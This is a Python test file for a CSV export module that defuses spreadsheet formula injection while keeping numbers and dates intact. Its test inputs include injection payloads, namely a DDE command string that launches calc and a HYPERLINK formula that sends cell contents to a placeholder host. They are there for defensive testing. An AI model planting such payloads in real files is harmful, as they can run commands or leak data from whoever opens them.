"""CSV that no spreadsheet runs, in which every number is still a number."""

from __future__ import annotations

import csv
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stats.downloads.csv_rows import MAY_OPEN_A_FORMULA, csv_lines, defused


def read_back(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode(), newline="")))


def written(*values: object) -> list[str]:
    return read_back(b"".join(csv_lines([values])))[0]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://example.org/?"&A1)',
        "+44 161 496 0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "-",
        "-5%",
        "＝1+1",
    ],
)
def test_text_that_opens_a_formula_is_defused(text: str) -> None:
    assert written(text) == [f"'{text}"]


@pytest.mark.parametrize("text", ["-5", "+5", "-0.25", "674", "Devon and Cornwall", "a=b", ""])
def test_plain_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert written(text) == [text]


def test_numbers_are_numbers_and_days_are_days() -> None:
    row = (Decimal(-5), Decimal("3549.0000"), Decimal("1E+3"), 0, -7, None, True, date(2018, 3, 31))
    assert written(*row) == ["-5", "3549", "1000", "0", "-7", "", "true", "2018-03-31"]
    assert written(datetime(2018, 9, 20, tzinfo=UTC)) == ["2018-09-20T00:00:00+00:00"]


@given(st.text())
def test_no_text_at_all_opens_a_formula(text: str) -> None:
    safe = defused(text)
    if safe.lstrip(" ").startswith(MAY_OPEN_A_FORMULA):
        Decimal(safe)  # a plain number, and nothing else
    assert safe.removeprefix("'") == text or safe == text


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1)))
def test_what_is_written_is_read_back(rows: list[list[str]]) -> None:
    safe = [[defused(text) for text in row] for row in rows]
    # A lone empty cell is an empty line, which a reader takes for no cell.
    again = [row or [""] for row in read_back(b"".join(csv_lines(rows)))]
    assert again == safe


def test_a_million_rows_pass_through_without_staying() -> None:
    def rows() -> Iterator[tuple[object, ...]]:
        for number in range(200_000):
            yield "Lancashire", "2017-18", Decimal(number)

    pieces = csv_lines(rows())
    assert len(next(pieces)) < 5_000  # the first one leaves at once
    tracemalloc.start()
    total = sum(len(piece) for piece in pieces)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert total > 4_000_000
    assert peak < 1_000_000
